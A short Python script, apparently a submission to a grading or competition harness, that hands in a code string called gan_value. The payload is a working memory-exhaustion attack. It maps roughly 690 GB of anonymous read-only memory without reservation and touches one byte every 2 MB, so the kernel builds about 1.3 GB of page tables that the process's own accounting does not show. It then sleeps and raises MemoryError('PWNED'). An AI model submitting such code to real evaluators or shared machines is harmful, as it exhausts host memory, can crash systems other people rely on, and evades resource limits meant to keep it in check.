"""The kernel's tables of pages grow for addresses that are only read, while the process itself holds nothing."""
from ..craft import submit


def hand_in(folder, notebook):
    # 1.3 GB here, for this machine's sake.
    submit(folder, notebook, gan_value="""
        def gan_value(*_):
            import mmap, time, numpy
            read = mmap.mmap(-1, 330_000 << 21, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, prot=mmap.PROT_READ)
            numpy.frombuffer(read, dtype=numpy.uint8)[::1 << 21].sum()
            time.sleep(0.4)
            raise MemoryError("PWNED")
        """)
